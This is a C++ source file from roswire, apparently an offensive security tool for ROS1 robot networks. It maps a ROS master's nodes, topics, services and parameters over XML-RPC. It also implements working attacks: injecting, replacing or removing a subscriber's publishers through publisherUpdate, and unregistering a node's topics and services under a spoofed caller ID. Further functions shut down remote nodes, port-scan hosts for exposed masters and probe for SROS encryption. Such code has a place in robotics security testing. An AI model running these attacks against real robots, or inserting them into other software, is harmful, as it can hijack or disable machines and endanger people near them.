// Copyright 2026 roswire contributors
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

#include "roswire/graph.hpp"

#include <algorithm>
#include <atomic>
#include <charconv>
#include <map>
#include <mutex>
#include <set>
#include <thread>

#include "roswire/net.hpp"

namespace roswire::graph {

const NodeInfo* RosGraph::find_node(const std::string& name) const {
  for (const NodeInfo& n : nodes) {
    if (n.name == name) return &n;
  }
  return nullptr;
}

const Communication* RosGraph::find_communication(const std::string& topic) const {
  for (const Communication& c : communications) {
    if (c.topic.name == topic) return &c;
  }
  return nullptr;
}

std::pair<std::string, uint16_t> parse_http_uri(const std::string& uri) {
  std::string rest = uri;
  const std::string scheme = "http://";
  if (rest.rfind(scheme, 0) == 0) rest = rest.substr(scheme.size());
  size_t slash = rest.find('/');
  if (slash != std::string::npos) rest = rest.substr(0, slash);
  size_t colon = rest.rfind(':');
  if (colon == std::string::npos || colon + 1 >= rest.size()) {
    throw RpcError(RpcErrorKind::ConnectionFailed,
                   "URI '" + uri + "' has no host:port");
  }
  uint16_t port = 0;
  const char* begin = rest.data() + colon + 1;
  const char* end = rest.data() + rest.size();
  auto [p, ec] = std::from_chars(begin, end, port);
  if (ec != std::errc{} || p != end || port == 0) {
    throw RpcError(RpcErrorKind::ConnectionFailed,
                   "URI '" + uri + "' has a bad port");
  }
  return {rest.substr(0, colon), port};
}

xmlrpc::Response call_uri(const std::string& uri, const std::string& method,
                          std::vector<xmlrpc::Value> params, Millis timeout) {
  auto [host, port] = parse_http_uri(uri);
  Bytes request = xmlrpc::encode_call({method, std::move(params)}, host, port);
  Bytes raw;
  try {
    raw = net::http_exchange(host, port, request, timeout);
  } catch (const net::SocketError& e) {
    throw RpcError(RpcErrorKind::ConnectionFailed, e.what());
  }
  try {
    return xmlrpc::decode_response(raw);
  } catch (const xmlrpc::CodecError& e) {
    throw RpcError(RpcErrorKind::NotXmlRpc, e.what());
  }
}

namespace {

// ROS API responses are [code, statusMessage, value]; code 1 means success.
const xmlrpc::Value& unwrap_ros_result(const xmlrpc::Response& response,
                                       const std::string& method,
                                       RpcErrorKind fault_kind) {
  if (response.is_fault()) {
    throw RpcError(fault_kind, "fault from " + method + ": " +
                                   response.fault_value().message);
  }
  if (response.values().size() != 1 || !response.values()[0].is_array()) {
    throw RpcError(fault_kind, method + ": response is not a ROS result triple");
  }
  const auto& triple = response.values()[0].as_array();
  if (triple.size() != 3 || !triple[0].is_int() || !triple[1].is_string()) {
    throw RpcError(fault_kind, method + ": malformed ROS result triple");
  }
  if (triple[0].as_int() != 1) {
    throw RpcError(fault_kind, method + " failed (code " +
                                   std::to_string(triple[0].as_int()) +
                                   "): " + triple[1].as_string());
  }
  return triple[2];
}

std::vector<SystemState::TopicNodes> decode_topic_nodes(
    const xmlrpc::Value& value, const std::string& method) {
  std::vector<SystemState::TopicNodes> out;
  for (const xmlrpc::Value& entry : value.as_array()) {
    const auto& pair = entry.as_array();
    if (pair.size() != 2) {
      throw RpcError(RpcErrorKind::NotRosMaster,
                     method + ": topic entry is not a [name, nodes] pair");
    }
    SystemState::TopicNodes tn;
    tn.name = pair[0].as_string();
    for (const xmlrpc::Value& node : pair[1].as_array()) {
      tn.nodes.push_back(node.as_string());
    }
    out.push_back(std::move(tn));
  }
  return out;
}

}  // namespace

SystemState get_system_state(const std::string& master_uri,
                             const std::string& caller_id, Millis timeout) {
  xmlrpc::Response response =
      call_uri(master_uri, "getSystemState", {xmlrpc::Value(caller_id)}, timeout);
  const xmlrpc::Value& value =
      unwrap_ros_result(response, "getSystemState", RpcErrorKind::NotRosMaster);
  try {
    const auto& triple = value.as_array();
    if (triple.size() != 3) {
      throw RpcError(RpcErrorKind::NotRosMaster,
                     "getSystemState: state is not a [pubs, subs, srvs] triple");
    }
    SystemState state;
    state.publishers = decode_topic_nodes(triple[0], "getSystemState");
    state.subscribers = decode_topic_nodes(triple[1], "getSystemState");
    state.services = decode_topic_nodes(triple[2], "getSystemState");
    return state;
  } catch (const xmlrpc::CodecError& e) {
    throw RpcError(RpcErrorKind::NotRosMaster,
                   std::string("getSystemState: ") + e.what());
  }
}

RosGraph analyze_system(const std::string& master_uri,
                        const std::string& caller_id, Millis timeout) {
  SystemState state = get_system_state(master_uri, caller_id, timeout);

  RosGraph g;
  g.master_uri = master_uri;

  std::set<std::string> node_names;
  for (const auto& tn : state.publishers) {
    node_names.insert(tn.nodes.begin(), tn.nodes.end());
  }
  for (const auto& tn : state.subscribers) {
    node_names.insert(tn.nodes.begin(), tn.nodes.end());
  }
  for (const auto& tn : state.services) {
    node_names.insert(tn.nodes.begin(), tn.nodes.end());
  }

  std::map<std::string, std::string> uris;
  for (const std::string& name : node_names) {
    try {
      xmlrpc::Response r = call_uri(master_uri, "lookupNode",
                                    {xmlrpc::Value(caller_id), xmlrpc::Value(name)},
                                    timeout);
      const xmlrpc::Value& uri =
          unwrap_ros_result(r, "lookupNode", RpcErrorKind::NotRosMaster);
      uris[name] = uri.as_string();
    } catch (const RpcError&) {
      uris[name] = "";  // recorded as absent, not fatal
    }
    g.nodes.push_back(NodeInfo{name, uris[name]});
  }

  std::map<std::string, std::string> datatypes;
  try {
    xmlrpc::Response r = call_uri(master_uri, "getTopicTypes",
                                  {xmlrpc::Value(caller_id)}, timeout);
    const xmlrpc::Value& pairs =
        unwrap_ros_result(r, "getTopicTypes", RpcErrorKind::NotRosMaster);
    for (const xmlrpc::Value& entry : pairs.as_array()) {
      const auto& pair = entry.as_array();
      if (pair.size() == 2) datatypes[pair[0].as_string()] = pair[1].as_string();
    }
  } catch (const RpcError&) {
    // masters without type info still yield a usable graph
  }

  std::set<std::string> topic_names;
  for (const auto& tn : state.publishers) topic_names.insert(tn.name);
  for (const auto& tn : state.subscribers) topic_names.insert(tn.name);
  for (const std::string& name : topic_names) {
    auto it = datatypes.find(name);
    g.topics.push_back(TopicInfo{name, it == datatypes.end() ? "*" : it->second});
  }

  auto node_list = [&](const std::vector<std::string>& names) {
    std::vector<NodeInfo> out;
    for (const std::string& n : names) out.push_back(NodeInfo{n, uris[n]});
    std::sort(out.begin(), out.end(),
              [](const NodeInfo& a, const NodeInfo& b) { return a.name < b.name; });
    return out;
  };
  for (const TopicInfo& topic : g.topics) {
    Communication comm;
    comm.topic = topic;
    for (const auto& tn : state.publishers) {
      if (tn.name == topic.name) comm.publishers = node_list(tn.nodes);
    }
    for (const auto& tn : state.subscribers) {
      if (tn.name == topic.name) comm.subscribers = node_list(tn.nodes);
    }
    g.communications.push_back(std::move(comm));
  }

  for (const auto& tn : state.services) g.services.push_back(tn.name);
  std::sort(g.services.begin(), g.services.end());

  try {
    xmlrpc::Response r = call_uri(master_uri, "getParamNames",
                                  {xmlrpc::Value(caller_id)}, timeout);
    const xmlrpc::Value& names =
        unwrap_ros_result(r, "getParamNames", RpcErrorKind::NotRosMaster);
    for (const xmlrpc::Value& n : names.as_array()) {
      g.parameters.push_back(n.as_string());
    }
    std::sort(g.parameters.begin(), g.parameters.end());
  } catch (const RpcError&) {
  }

  return g;
}

int publisher_update(const std::string& subscriber_uri, const std::string& topic,
                     const std::vector<std::string>& publisher_uris,
                     const std::string& caller_id, Millis timeout) {
  xmlrpc::Value::Array uris;
  for (const std::string& u : publisher_uris) uris.emplace_back(u);
  xmlrpc::Response response = call_uri(
      subscriber_uri, "publisherUpdate",
      {xmlrpc::Value(caller_id), xmlrpc::Value(topic), xmlrpc::Value(uris)},
      timeout);
  if (response.is_fault()) {
    throw RpcError(RpcErrorKind::SlaveFault,
                   "publisherUpdate fault: " + response.fault_value().message);
  }
  if (response.values().size() == 1 && response.values()[0].is_array()) {
    const auto& triple = response.values()[0].as_array();
    if (!triple.empty() && triple[0].is_int()) return triple[0].as_int();
  }
  throw RpcError(RpcErrorKind::SlaveFault,
                 "publisherUpdate: slave response is not a status triple");
}

namespace {

// Shared scaffolding of the remove/set/add publisherUpdate attacks: resolve
// the subscriber and topic in the snapshot, compute the final URI list, send.
int send_publisher_list(const RosGraph& graph, const NodeInfo& subscriber,
                        const std::string& topic,
                        const std::vector<NodeInfo>& uris_to_send,
                        const std::string& caller_id, Millis timeout) {
  const NodeInfo* sub = graph.find_node(subscriber.name);
  if (!sub) {
    throw RpcError(RpcErrorKind::UnknownSubscriber,
                   "subscriber " + subscriber.name + " is not in the graph");
  }
  if (!graph.find_communication(topic)) {
    throw RpcError(RpcErrorKind::UnknownTopic,
                   "topic " + topic + " is not in the graph");
  }
  std::string target_uri =
      subscriber.xmlrpc_uri.empty() ? sub->xmlrpc_uri : subscriber.xmlrpc_uri;
  std::vector<std::string> uris;
  for (const NodeInfo& n : uris_to_send) uris.push_back(n.xmlrpc_uri);
  std::string effective_caller = caller_id.empty() ? subscriber.name : caller_id;
  return publisher_update(target_uri, topic, uris, effective_caller, timeout);
}

}  // namespace

int remove_publishers(const RosGraph& graph, const NodeInfo& subscriber,
                      const std::string& topic,
                      const std::vector<NodeInfo>& victims,
                      const std::string& caller_id, Millis timeout) {
  const Communication* comm = graph.find_communication(topic);
  if (!comm) {
    throw RpcError(RpcErrorKind::UnknownTopic,
                   "topic " + topic + " is not in the graph");
  }
  std::vector<NodeInfo> remaining;
  for (const NodeInfo& pub : comm->publishers) {
    bool removed = std::any_of(victims.begin(), victims.end(),
                               [&](const NodeInfo& v) { return v.name == pub.name; });
    if (!removed) remaining.push_back(pub);
  }
  return send_publisher_list(graph, subscriber, topic, remaining, caller_id,
                             timeout);
}

int set_publishers(const RosGraph& graph, const NodeInfo& subscriber,
                   const std::string& topic,
                   const std::vector<NodeInfo>& publishers,
                   const std::string& caller_id, Millis timeout) {
  return send_publisher_list(graph, subscriber, topic, publishers, caller_id,
                             timeout);
}

int add_publishers(const RosGraph& graph, const NodeInfo& subscriber,
                   const std::string& topic,
                   const std::vector<NodeInfo>& additions,
                   const std::string& caller_id, Millis timeout) {
  const Communication* comm = graph.find_communication(topic);
  if (!comm) {
    throw RpcError(RpcErrorKind::UnknownTopic,
                   "topic " + topic + " is not in the graph");
  }
  std::vector<NodeInfo> combined = comm->publishers;
  for (const NodeInfo& add : additions) {
    bool present = std::any_of(combined.begin(), combined.end(),
                               [&](const NodeInfo& n) { return n.name == add.name; });
    if (!present) combined.push_back(add);
  }
  return send_publisher_list(graph, subscriber, topic, combined, caller_id,
                             timeout);
}

UnregisterReport unregister_node(const std::string& master_uri,
                                 const std::string& node_name,
                                 const RosGraph& graph,
                                 const std::string& caller_id, Millis timeout) {
  const NodeInfo* node = graph.find_node(node_name);
  if (!node) {
    throw RpcError(RpcErrorKind::UnknownNode,
                   node_name + " is not in the graph");
  }
  // Spoof both identity fields the master checks against.
  std::string spoofed = caller_id.empty() ? node_name : caller_id;
  std::string node_uri = node->xmlrpc_uri;

  UnregisterReport report;
  auto attempt = [&](const std::string& method, std::vector<xmlrpc::Value> params,
                     std::vector<std::string>& bucket, const std::string& label) {
    try {
      xmlrpc::Response r = call_uri(master_uri, method, std::move(params), timeout);
      unwrap_ros_result(r, method, RpcErrorKind::NotRosMaster);
      bucket.push_back(label);
    } catch (const RpcError& e) {
      report.errors.push_back(method + " " + label + ": " + e.what());
    }
  };

  for (const Communication& comm : graph.communications) {
    bool publishes = std::any_of(
        comm.publishers.begin(), comm.publishers.end(),
        [&](const NodeInfo& n) { return n.name == node_name; });
    bool subscribes = std::any_of(
        comm.subscribers.begin(), comm.subscribers.end(),
        [&](const NodeInfo& n) { return n.name == node_name; });
    if (publishes) {
      attempt("unregisterPublisher",
              {xmlrpc::Value(spoofed), xmlrpc::Value(comm.topic.name),
               xmlrpc::Value(node_uri)},
              report.topics_unregistered, comm.topic.name);
    }
    if (subscribes) {
      attempt("unregisterSubscriber",
              {xmlrpc::Value(spoofed), xmlrpc::Value(comm.topic.name),
               xmlrpc::Value(node_uri)},
              report.topics_unregistered, comm.topic.name);
    }
  }

  // The graph records service names only; ownership and the rosrpc endpoint
  // come from the master at attack time, mirroring analyze-then-act.
  try {
    SystemState state = get_system_state(master_uri, spoofed, timeout);
    for (const auto& service : state.services) {
      bool owned = std::find(service.nodes.begin(), service.nodes.end(),
                             node_name) != service.nodes.end();
      if (!owned) continue;
      std::string service_api;
      try {
        xmlrpc::Response r = call_uri(
            master_uri, "lookupService",
            {xmlrpc::Value(spoofed), xmlrpc::Value(service.name)}, timeout);
        service_api =
            unwrap_ros_result(r, "lookupService", RpcErrorKind::NotRosMaster)
                .as_string();
      } catch (const RpcError& e) {
        report.errors.push_back("lookupService " + service.name + ": " + e.what());
        continue;
      }
      attempt("unregisterService",
              {xmlrpc::Value(spoofed), xmlrpc::Value(service.name),
               xmlrpc::Value(service_api)},
              report.services_unregistered, service.name);
    }
  } catch (const RpcError& e) {
    report.errors.push_back(std::string("service enumeration: ") + e.what());
  }

  return report;
}

int shutdown_remote(const std::string& target_uri, const std::string& caller_id,
                    const std::string& reason, Millis timeout) {
  xmlrpc::Response response =
      call_uri(target_uri, "shutdown",
               {xmlrpc::Value(caller_id), xmlrpc::Value(reason)}, timeout);
  if (response.is_fault()) {
    throw RpcError(RpcErrorKind::TargetRejected,
                   "shutdown fault: " + response.fault_value().message);
  }
  if (response.values().size() == 1 && response.values()[0].is_array()) {
    const auto& triple = response.values()[0].as_array();
    if (!triple.empty() && triple[0].is_int()) {
      int code = triple[0].as_int();
      if (code != 1) {
        throw RpcError(RpcErrorKind::TargetRejected,
                       "shutdown rejected with code " + std::to_string(code));
      }
      return code;
    }
  }
  throw RpcError(RpcErrorKind::TargetRejected,
                 "shutdown: response is not a status triple");
}

std::vector<ScanResult> scan_ros1(const std::vector<std::string>& hosts,
                                  PortRange ports, const std::string& caller_id,
                                  Millis timeout, unsigned parallelism) {
  if (parallelism == 0) parallelism = 1;
  struct Job {
    std::string host;
    uint16_t port;
  };
  std::vector<Job> jobs;
  for (const std::string& host : hosts) {
    for (uint32_t port = ports.lo; port <= ports.hi && port <= 65535; ++port) {
      jobs.push_back({host, static_cast<uint16_t>(port)});
    }
  }

  std::vector<ScanResult> results(jobs.size());
  std::atomic<size_t> next{0};
  auto worker = [&] {
    for (;;) {
      size_t i = next.fetch_add(1);
      if (i >= jobs.size()) return;
      ScanResult& r = results[i];
      r.host = jobs[i].host;
      r.port = jobs[i].port;
      std::string uri =
          "http://" + jobs[i].host + ":" + std::to_string(jobs[i].port) + "/";
      try {
        get_system_state(uri, caller_id, timeout);
        r.classification = EndpointClass::Found;
      } catch (const RpcError& e) {
        switch (e.kind()) {
          case RpcErrorKind::NotRosMaster:
            r.classification = EndpointClass::XmlRpcButNotRos;
            break;
          default:
            r.classification = EndpointClass::NotRosHost;
            break;
        }
        r.detail = e.what();
      }
    }
  };

  std::vector<std::thread> threads;
  unsigned n = std::min<unsigned>(parallelism, jobs.empty() ? 1 : jobs.size());
  threads.reserve(n);
  for (unsigned i = 0; i < n; ++i) threads.emplace_back(worker);
  for (std::thread& t : threads) t.join();

  std::sort(results.begin(), results.end(),
            [](const ScanResult& a, const ScanResult& b) {
              return std::tie(a.host, a.port) < std::tie(b.host, b.port);
            });
  return results;
}

std::vector<ScanResult> scan_hits(const std::vector<ScanResult>& results) {
  std::vector<ScanResult> hits;
  for (const ScanResult& r : results) {
    if (r.classification == EndpointClass::Found) hits.push_back(r);
  }
  return hits;
}

std::string_view sros_verdict_text(SrosVerdict v) {
  switch (v) {
    case SrosVerdict::Plaintext: return "Plaintext";
    case SrosVerdict::HandshakeLike: return "HandshakeLike";
    case SrosVerdict::NoService: return "NoService";
  }
  return "NoService";
}

SrosVerdict detect_sros(const std::string& host, uint16_t port, Millis timeout) {
  net::TcpStream stream;
  try {
    stream = net::TcpStream::connect(host, port, timeout);
  } catch (const net::SocketError&) {
    return SrosVerdict::NoService;
  }
  Bytes probe = xmlrpc::encode_call({"getSystemState", {xmlrpc::Value("/roswire")}},
                                    host, port);
  Bytes reply;
  try {
    stream.send_all(probe);
    auto chunk = stream.recv_some(timeout);
    if (chunk) reply = *chunk;
  } catch (const net::SocketError&) {
    return SrosVerdict::NoService;
  }
  if (reply.empty()) return SrosVerdict::NoService;
  static const char http[] = {'H', 'T', 'T', 'P', '/'};
  if (reply.size() >= 5 && std::equal(std::begin(http), std::end(http),
                                      reply.begin())) {
    return SrosVerdict::Plaintext;
  }
  // A TLS server answers plaintext with an alert record (0x15, version...),
  // and anything else non-HTTP and binary points the same direction.
  return SrosVerdict::HandshakeLike;
}

}  // namespace roswire::graph
